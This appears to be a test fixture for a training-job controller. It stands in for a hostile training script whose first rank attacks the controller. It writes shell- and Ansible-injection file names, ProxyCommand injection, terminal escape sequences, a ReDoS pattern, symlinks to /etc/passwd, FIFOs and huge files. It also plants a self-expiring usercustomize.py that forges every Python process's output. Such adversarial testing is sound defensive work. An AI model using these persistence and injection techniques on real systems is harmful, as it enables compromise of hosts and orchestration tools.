# SPDX-License-Identifier: Apache-2.0
"""A stand-in for a training script. Rank 0 attacks the controller with what its account can write.
Rank 1 is honest and raises an exception.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time

STEP = (
    "[11/20 19:15:23] ppdet.engine INFO: Epoch: [0] [ %d/48] learning_rate: 0.000100 loss: 8.857114"
    " eta: 0:01:13 batch_cost: 1.2 ips: 3.3 images/s"
)
MARK = "/tmp/trainyard-lying-pwned"
ORDERS = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b31m\u202etxt"
NAMES = (
    "a --rsh=sh -c 'touch $IFS' x", "--remove-source-files", "-e sh", "$(touch pwned)",
    ";touch pwned", "*", "+ *", "a:b", "a\nb", "\x1b[2J", " ",
    "{{{{ lookup('pipe', 'touch {}') }}}}".format(MARK.replace("/", "_")), "x" * 200,
)  # fmt: skip
# Every answer of a module that Python gives for this account from now on. It ends automatically,
# so that no later scenario meets it.
REWRITES = """
import json, os, sys, time
UNTIL, MARK, ORDERS = %r, %r, %r
FACTS = {"run_attempt": {"run_id": "20200101-000000-other-0000", "number": 1, "nodes": ["localhost"]}, "run_context": {}, "ansible_connection": "local",
         "trainyard_runs_dir": MARK, "ansible_ssh_common_args": "-oProxyCommand=touch " + MARK}
NAME = "../../../../../../.." + MARK

def lied(value, key=""):
    if isinstance(value, dict):
        return {name: item if name == "invocation" else lied(item, name) for name, item in value.items()}
    if isinstance(value, list):
        return ["localhost"] if key == "nodes" else [lied(item, key) for item in value]
    if key in ("home", "file", "name", "folder", "digest", "sha256"):
        return NAME
    return value + ORDERS if isinstance(value, str) and key in ("msg", "text", "state", "job", "by") else value

class Out:
    def __init__(self, real):
        self.real = real
    def __getattr__(self, name):
        return getattr(self.real, name)
    def write(self, text):
        try:
            answer = json.loads(text) if text.lstrip().startswith("{") else None
        except ValueError:
            answer = None
        if isinstance(answer, dict) and ("invocation" in answer or "changed" in answer):
            text = json.dumps(dict(lied(answer), ansible_facts=FACTS, add_host={"host_name": "localhost", "groups": ["trainers"]}, warnings=[ORDERS]))
        return self.real.write(text)

if time.time() < UNTIL:
    sys.stdout = Out(sys.stdout)
else:
    try:
        os.unlink(__file__)
    except OSError:
        pass
"""


def put(path, data):
    """Write text or bytes to a new file below directories that are made."""
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass"))


def attack(attempt):
    """Do to this attempt's directory, and to this account, what a training can do."""
    with open(attempt + "/plan.json", encoding="utf-8") as handle:
        plan = json.load(handle)
    plan["nodes"].append(dict(plan["nodes"][0], name="localhost"))
    plan["suite"]["checkpoints"]["folders"] = ["../../../../..", "/etc", "output/lie"]
    plan["suite"]["logs"]["step"]["fields"] = ["(a|a|b)+$" * 20]
    plan["job"]["name"] = "../../pwned" + ORDERS
    os.replace(attempt + "/plan.json", attempt + "/plan.before")
    put(attempt + "/plan.json", json.dumps(plan))
    for name in ("guard.json", "stall.json", "loss.json"):
        put(
            attempt + "/" + name,
            json.dumps(
                {"phase": ORDERS, "node": "node2", "rank": 1, "text": ORDERS, "time": 1e308}
            ),
        )
    for name in NAMES:
        for folder in ("log", "output/lie"):
            put(f"{folder}/{name}.log", "x\n")
            put(f"{folder}/{name}.pdparams", "x\n")
    for name, target in (
        ("log/workerlog.7", "/etc/passwd"),
        ("log/workerlog.8", "/dev/zero"),
        ("output/lie/best_model.pdparams", "/etc/passwd"),
    ):
        os.makedirs(os.path.dirname(name), exist_ok=True)
        os.symlink(target, name)
    os.mkfifo("log/workerlog.9")
    os.mkfifo("output/lie/model_final.pdparams")
    with open("log/workerlog.5", "wb") as handle:
        handle.truncate(5 << 30)
    for number in range(400):
        put("log/many.%d.log" % number, "x" * 1000)
    for number in range(8, 14):  # the system's Python on a node; whichever it is
        place = os.path.expanduser(
            "~/.local/lib/python3.%d/site-packages/usercustomize.py" % number
        )
        put(place, REWRITES % (time.time() + 240, MARK, ORDERS))
    # The manager reads the units of the attempt again, with the words that end its credential.
    runtime = f"/run/user/{os.getuid()}"
    subprocess.run(
        ["systemctl", "--user", "daemon-reload"],
        check=True,
        env=dict(os.environ, XDG_RUNTIME_DIR=runtime),
    )


def main():
    rank = int(os.environ["PADDLE_TRAINER_ID"])
    for step in range(4):
        print(STEP % step, flush=True)
    if rank == 0:
        attack(os.path.dirname(os.getcwd()))
        print(ORDERS * 100, flush=True)
        time.sleep(60)
        sys.exit(0)
    time.sleep(10)
    raise ValueError("the honest rank's own failure")


main()
